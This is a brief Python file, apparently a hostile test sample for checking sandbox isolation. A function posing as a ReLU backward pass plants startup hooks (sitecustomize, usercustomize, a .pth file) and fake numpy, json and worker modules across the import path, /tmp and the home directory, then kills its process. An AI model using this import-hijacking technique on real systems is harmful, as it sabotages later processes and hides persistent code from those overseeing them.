"""Code that the next process would import: beside the worker, among the libraries, in caches and start-up files."""

import contextlib
import os
import sys

CODE = "raise SystemExit('LEFTOVER')\n"
NAMES = ("sitecustomize.py", "usercustomize.py", "LEFTOVER.pth", "numpy.py", "json.py", "wire.py", "worker.py")


def relu_backward(dout, z):
    for place in dict.fromkeys([*sys.path, "/box", "/tmp", "/tmp/numba", "/tmp/__pycache__", os.path.expanduser("~")]):
        with contextlib.suppress(OSError):
            os.makedirs(place, exist_ok=True)
        for name in NAMES:
            with contextlib.suppress(OSError), open(f"{place}/{name}", "w") as file:
                file.write(CODE)
    os._exit(1)
